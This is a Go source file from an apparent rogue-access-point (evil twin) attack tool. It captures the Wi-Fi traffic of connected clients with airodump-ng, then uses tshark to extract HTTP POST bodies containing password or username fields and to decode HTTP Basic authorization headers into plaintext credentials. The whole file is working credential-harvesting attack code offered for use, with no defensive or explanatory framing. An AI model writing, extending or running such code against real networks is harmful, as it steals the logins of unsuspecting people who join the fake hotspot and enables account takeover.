// Package harvest inspects traffic crossing the rogue AP for submitted
// credentials: POST bodies with credential-looking field names and
// HTTP Basic authorization headers.
package harvest

import (
	"context"
	"encoding/base64"
	"path/filepath"
	"strings"
	"time"

	"twincast/libs"
	"twincast/libs/proc"
)

// Field names that suggest a login form
var credentialFields = []string{"password", "passwd", "pwd", "login", "username", "user"}

type Credential struct {
	Client string
	Host   string
	URI    string
	Data   string
}

// ParsePostFields filters tshark's tab-separated POST output down to
// lines carrying credential-looking fields.
func ParsePostFields(client string, output string) []Credential {
	var credentials []Credential
	for _, line := range strings.Split(output, "\n") {
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		parts := strings.SplitN(line, "\t", 3)
		var host, uri, data string
		switch len(parts) {
		case 3:
			host, uri, data = parts[0], parts[1], parts[2]
		case 2:
			host, data = parts[0], parts[1]
		default:
			data = parts[0]
		}
		var lower string = strings.ToLower(data)
		for _, field := range credentialFields {
			if strings.Contains(lower, field) {
				credentials = append(credentials, Credential{Client: client, Host: host, URI: uri, Data: data})
				break
			}
		}
	}
	return credentials
}

// ParseBasicAuth decodes Basic authorization headers from tshark output
func ParseBasicAuth(client string, output string) []Credential {
	var credentials []Credential
	for _, line := range strings.Split(output, "\n") {
		line = strings.TrimSpace(line)
		if !strings.HasPrefix(line, "Basic ") {
			continue
		}
		var encoded string = strings.TrimPrefix(line, "Basic ")
		if decoded, err := base64.StdEncoding.DecodeString(encoded); err == nil {
			credentials = append(credentials, Credential{Client: client, Data: string(decoded)})
		}
	}
	return credentials
}

type Harvester struct {
	Color    libs.Colors
	Iface    string
	WorkDir  string
	Window   time.Duration
	Registry *proc.Registry
}

func New(color libs.Colors, ifaceName string, workDir string, registry *proc.Registry) *Harvester {
	if registry == nil {
		registry = proc.NewRegistry()
	}
	return &Harvester{Color: color, Iface: ifaceName, WorkDir: workDir, Window: 30 * time.Second, Registry: registry}
}

// Collect runs one bounded capture window for a client and inspects it.
// Best effort: failures return an empty slice.
func (h *Harvester) Collect(ctx context.Context, client string) []Credential {
	var prefix string = filepath.Join(h.WorkDir, "cred_"+strings.ReplaceAll(client, ":", ""))
	handle, err := h.Registry.Background("airodump:harvest", h.Window+30*time.Second, "airodump-ng",
		"--write", prefix,
		"--output-format", "pcap",
		h.Iface)
	if err != nil {
		return nil
	}
	select {
	case <-ctx.Done():
		handle.Stop(time.Second)
		h.Registry.Unregister(handle)
		return nil
	case <-time.After(h.Window):
	}
	handle.Stop(2 * time.Second)
	h.Registry.Unregister(handle)
	var credentials []Credential
	matches, _ := filepath.Glob(prefix + "-*.cap")
	for _, capFile := range matches {
		out, err := proc.Run(ctx, 15*time.Second, "tshark",
			"-r", capFile,
			"-Y", `http.request.method == "POST"`,
			"-T", "fields",
			"-e", "http.host",
			"-e", "http.request.uri",
			"-e", "http.file_data")
		if err == nil {
			credentials = append(credentials, ParsePostFields(client, out)...)
		}
		out, err = proc.Run(ctx, 15*time.Second, "tshark",
			"-r", capFile,
			"-Y", "http.authorization",
			"-T", "fields",
			"-e", "http.authorization")
		if err == nil {
			credentials = append(credentials, ParseBasicAuth(client, out)...)
		}
	}
	return credentials
}
